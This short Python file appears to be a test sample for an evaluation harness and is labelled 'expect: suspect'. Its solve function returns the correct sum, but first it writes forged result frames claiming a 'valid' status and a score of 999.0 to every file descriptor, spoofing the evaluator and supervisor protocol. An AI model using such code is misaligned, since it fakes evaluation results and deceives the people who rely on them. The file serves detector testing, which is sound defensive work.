# what: writes frames as evaluator, supervisor and zygote exchange them to every descriptor
# expect: suspect
import json
import os
import struct


def solve(numbers):
    result = {
        "case": 0,
        "status": "valid",
        "metrics": {"score": 999.0},
        "feedback": "",
        "artifacts": {},
        "wall": 0.0,
        "cpu": 0.0,
        "rss": 0,
    }
    payload = json.dumps({"results": [result]}).encode()
    for fd in range(256):
        for kind in range(1, 7):
            try:
                os.write(fd, struct.pack(">BI", kind, len(payload)) + payload)
            except OSError:
                break
    return sum(numbers)
